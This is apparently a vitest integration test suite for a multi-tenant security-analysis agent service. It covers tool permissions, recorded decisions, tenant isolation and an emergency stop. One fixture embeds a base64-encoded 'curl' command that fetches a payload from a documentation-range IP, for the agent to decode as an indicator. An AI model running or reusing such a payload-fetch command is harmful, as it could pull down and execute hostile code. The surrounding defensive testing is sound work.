import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TYPES } from "../../../images/runtime/dbe/codec/constants.ts";
import type { DbeError } from "../../../images/runtime/dbe/codec/error.ts";
import type { AgentRunAnswer } from "../../../images/runtime/l7/agent.ts";
import { BUILD_MS } from "../policy/rig.ts";
import { until } from "../support/fabric.ts";
import { AgentRig, ALPHA_TOOLS } from "./support/agent-rig.ts";
import { life } from "./support/l9-rig.ts";

let rig: AgentRig;
beforeAll(async () => {
  rig = await AgentRig.start();
}, BUILD_MS);
afterAll(() => rig?.close(), 60_000);

const CONTEXT = `A mail said: visit hxxp://evil[.]example/x and run ${Buffer.from("curl http://198.51.100.9/payload").toString("base64")}`;
const straight = async (container: string, message: { destination: number; tenant: string; body?: object }) => {
  const { destination, tenant, body = { tool: "hash", input: { text: "x" } } } = message;
  const payload = Buffer.from(JSON.stringify(body));
  const client = rig.l9.soc.fleet.client("node-b", container);
  const asked = { type: TYPES.L7_SERVICE_REQ, tenant, destination, payload, deadlineMs: 5000 };
  return client.request(asked).then(
    (answer) => answer.payload.toString("utf8"),
    (error: DbeError) => error.reason,
  );
};

describe("tools of the API", () => {
  it("are listed with what the tenant may call", async () => {
    const of = async (tenant: "alpha" | "bravo") => (await rig.get(tenant, "/v1/tools")).body.tools;
    const names = (tools: { name: string; allowed: boolean }[]) =>
      tools.filter(({ allowed }) => allowed).map(({ name }) => name);
    expect(names(await of("alpha"))).toEqual(ALPHA_TOOLS);
    expect(names(await of("bravo"))).toEqual([]);
    expect((await of("bravo")).length).toBe(9);
  });

  it("answer what they found, with the decision's record in the tenant's own log", async () => {
    const before = await rig.decisions("alpha");
    const { status, body } = await rig.post("alpha", "/v1/tools/ip_info", { address: "10.1.2.3" });
    expect(status).toBe(200);
    expect(body).toMatchObject({
      tenant_id: "ALPHA",
      tool: "ip_info",
      outcome: "ok",
      output: { class: "private", public: false },
      decision: { allow: true, reasons: ["tool_listed"], policy: { version: 2 } },
    });
    const [row] = (await rig.decisions("alpha")).slice(before.length);
    expect(row).toMatchObject({ allow: true, device: 48, writer: "l7-agent-alpha" });
    expect(String(row?.seq)).toBe(String(body.decision.record.seq));
    expect(row?.request).toBe('{"tenant":"ALPHA","tool":"ip_info"}');
    expect(await rig.decisions("bravo")).toEqual([]);
  });

  it("are refused when the policy does not list them, and the refusal is recorded", async () => {
    expect(await rig.post("bravo", "/v1/tools/ip_info", { address: "10.1.2.3" })).toMatchObject({
      status: 403,
      code: "tool_not_allowed",
    });
    const rows = await rig.decisions("bravo");
    expect(rows.at(-1)).toMatchObject({ allow: false, writer: "l7-agent-bravo" });
    expect(await rig.post("alpha", "/v1/tools/hash", { text: "x" })).toMatchObject({ status: 403 });
  });

  it("tell what is wrong with an input, and that there is no such tool", async () => {
    expect(await rig.post("alpha", "/v1/tools/ip_info", { address: 1 })).toMatchObject({
      status: 400,
      code: "invalid_request",
      message: expect.stringContaining("input.address: must be string"),
    });
    expect(await rig.post("alpha", "/v1/tools/ip_info", { address: "no address" })).toMatchObject({
      status: 422,
      code: "tool_failed",
    });
    expect(await rig.post("alpha", "/v1/tools/IP%20INFO", {})).toMatchObject({ status: 404, code: "tool_not_found" });
    expect(await rig.post("alpha", "/v1/tools/whois", {})).toMatchObject({ status: 403 });
    expect(await rig.post("alpha", "/v1/tools/ip_info", [])).toMatchObject({ status: 400 });
  });

  it("say so where there is no knowledge base", async () => {
    expect(await rig.post("alpha", "/v1/tools/search_knowledge", { query: "evil" })).toMatchObject({
      status: 503,
      code: "tools_unavailable",
    });
  });
});

describe("an agent with the playbook", () => {
  it("goes from what it is given to what is hidden in it, and quotes the tools", async () => {
    const { status, body } = await rig.post("alpha", "/v1/agent/runs", {
      goal: "What is in this mail?",
      context: CONTEXT,
    });
    expect(status).toBe(200);
    const run = body as AgentRunAnswer;
    expect(run).toMatchObject({ tenant_id: "ALPHA", planner: "playbook", result: "completed" });
    expect(run.steps.map(({ tool, outcome }) => `${tool} ${outcome}`)).toEqual([
      "extract_indicators ok",
      "decode ok",
      "extract_indicators ok",
      "ip_info ok",
      "search_knowledge unavailable",
    ]);
    expect(run.report.facts).toContainEqual({
      step: 2,
      tool: "decode",
      path: "text",
      value: "curl http://198.51.100.9/payload",
    });
    expect(run.report.facts).toContainEqual({ step: 4, tool: "ip_info", path: "class", value: "documentation" });
    expect(run.report.model_text).toBeNull();
    const records = run.steps.map(({ decision }) => decision?.record?.seq);
    expect(new Set(records).size).toBe(5);
  });

  it("keeps to its steps and its tools", async () => {
    const payload = {
      goal: "What is in this mail?",
      context: CONTEXT,
      max_steps: 1,
      tools: ["extract_indicators", "decode"],
    };
    const { body } = await rig.post("alpha", "/v1/agent/runs", payload);
    expect(body).toMatchObject({ result: "step_limit", steps: [{ tool: "extract_indicators" }] });
  });

  it("of a tenant without tools calls none: each refusal is recorded with it", async () => {
    const { body } = await rig.post("bravo", "/v1/agent/runs", { goal: "Look at 203.0.113.7" });
    expect(body).toMatchObject({ tenant_id: "BRAVO", report: { facts: [] } });
    const run = body as AgentRunAnswer;
    expect(run.steps.length).toBeGreaterThan(0);
    expect(
      run.steps.every(
        ({ outcome, decision }) => outcome === "refused" && decision?.record?.writer === "l7-agent-bravo",
      ),
    ).toBe(true);
  });

  it("refuses a body that is not of its form", async () => {
    expect(await rig.post("alpha", "/v1/agent/runs", { goal: "" })).toMatchObject({ status: 400, param: "goal" });
    expect(await rig.post("alpha", "/v1/agent/runs", { goal: "x", max_steps: 9 })).toMatchObject({
      param: "max_steps",
    });
    expect(await rig.post("alpha", "/v1/agent/runs", { goal: "x", more: 1 })).toMatchObject({ status: 400 });
  });
});

describe("an agent with the model", () => {
  it("has no decision where no model answers, and makes none up", async () => {
    const { body } = await rig.post("alpha", "/v1/agent/runs", { goal: "Look at 203.0.113.7", planner: "model" });
    expect(body).toMatchObject({
      result: "no_decision",
      reasons: ["no_worker"],
      steps: [],
      report: { model_text: null },
    });
  });
});

describe("across tenants and devices", () => {
  it("nobody but the agent speaks to the tool executor", async () => {
    const { fleet } = rig.l9.soc;
    fleet.addFolder("node-b", "dsmil-l7-rag-alpha", { device: 50, tenants: ["ALPHA"] });
    await until(
      async () =>
        (await straight("dsmil-l7-rag-alpha", { destination: 49, tenant: "ALPHA" })) !== "DESTINATION_UNAVAILABLE",
      5000,
    );
    expect(await straight("dsmil-l7-rag-alpha", { destination: 49, tenant: "ALPHA" })).toBe("DEVICE_NOT_ALLOWED");
    expect(await straight("dsmil-l7-rag-alpha", { destination: 48, tenant: "ALPHA" })).toBe("DEVICE_NOT_ALLOWED");
    expect(await straight("dsmil-l7-rag-alpha", { destination: 43, tenant: "ALPHA" })).toBe("DEVICE_NOT_ALLOWED");
    // The L7 router without a claim.
    expect(await straight("dsmil-l7-router", { destination: 49, tenant: "ALPHA" })).toBe("MISSING_CLAIM_TOKEN");
    expect(await straight("dsmil-l7-router", { destination: 48, tenant: "BRAVO" })).toBe("MISSING_CLAIM_TOKEN");
  });

  it("an agent speaks for its own tenant alone, to the executor and to the router", async () => {
    const catalogue = { catalogue: true };
    const own = await straight("dsmil-l7-agent-alpha", { destination: 49, tenant: "ALPHA", body: catalogue });
    expect(JSON.parse(own)).toMatchObject({ tenant_id: "ALPHA" });
    expect(await straight("dsmil-l7-agent-alpha", { destination: 49, tenant: "BRAVO" })).toBe("TENANT_MISMATCH");
    expect(await straight("dsmil-l7-agent-alpha", { destination: 43, tenant: "BRAVO" })).toBe("TENANT_MISMATCH");
    expect(await straight("dsmil-l7-agent-alpha", { destination: 48, tenant: "BRAVO" })).toBe("TENANT_MISMATCH");
  });

  it("the executor asks the policy itself, whatever an agent that was taken over says", async () => {
    const answer = await straight("dsmil-l7-agent-bravo", { destination: 49, tenant: "BRAVO" });
    expect(JSON.parse(answer)).toMatchObject({ outcome: "refused", reasons: ["tool_not_listed"] });
  });
});

describe("the emergency stop", () => {
  it("keeps tools and agents of its tenant from everything, and those of others from nothing", async () => {
    const [officer] = rig.l9.soc.fleet.officers;
    const stop = { order: "stop", ...life(), reason: "drill" };
    expect(await rig.l9.send(await rig.l9.order(stop, [officer]))).toMatchObject({ type: "0x65" });
    const before = await rig.decisions("alpha");
    expect(await rig.post("alpha", "/v1/tools/ip_info", { address: "10.1.2.3" })).toMatchObject({
      status: 403,
      code: "emergency_stop",
    });
    const { body } = await rig.post("alpha", "/v1/agent/runs", { goal: "Look at 203.0.113.7" });
    expect(body).toMatchObject({ result: "stopped", reasons: ["emergency_stop"], steps: [] });
    expect(await rig.decisions("alpha")).toHaveLength(before.length);
    const other = await rig.post("bravo", "/v1/agent/runs", { goal: "Look at 203.0.113.7" });
    expect(other.body.result).toBe("completed");
    const release = { order: "release", ...life(), releases: stop.nonce };
    await rig.l9.send(await rig.l9.order(release, rig.l9.soc.fleet.officers));
    expect((await rig.post("alpha", "/v1/tools/ip_info", { address: "10.1.2.3" })).status).toBe(200);
  });

  it("what cannot be recorded is refused", async () => {
    const { postgres } = rig.l9.soc.fabric;
    await postgres.sql("revoke insert on dsmil_alpha.decisions from alpha_app");
    expect(await rig.post("alpha", "/v1/tools/ip_info", { address: "10.1.2.3" })).toMatchObject({
      status: 503,
      code: "not_recorded",
    });
    const { body } = await rig.post("alpha", "/v1/agent/runs", { goal: "Look at 203.0.113.7" });
    expect(body).toMatchObject({ result: "refused", reasons: ["not_recorded"] });
    await postgres.sql("grant insert on dsmil_alpha.decisions to alpha_app");
  });
});
